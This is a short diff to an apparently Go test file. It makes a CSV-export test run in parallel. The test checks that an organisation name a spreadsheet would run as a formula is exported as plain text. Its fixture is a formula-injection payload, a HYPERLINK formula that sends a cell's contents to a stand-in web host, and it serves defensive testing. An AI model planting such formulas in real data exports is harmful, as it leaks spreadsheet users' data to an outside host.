@@ -11,6 +11,7 @@ import (
 // name a spreadsheet would run as a formula reaches the project leader's
 // Excel as text in every downloaded table, the header row included.
 func TestCSVHeadersAreDefused(t *testing.T) {
+	t.Parallel()
 	a := newApp(t)
 	const evil = `=HYPERLINK("http://example.com/?x="&A2,"Osby")`
 	if _, err := a.db.Owner.Exec(context.Background(), `UPDATE orgs SET name = $1 WHERE key = '1273'`, evil); err != nil {
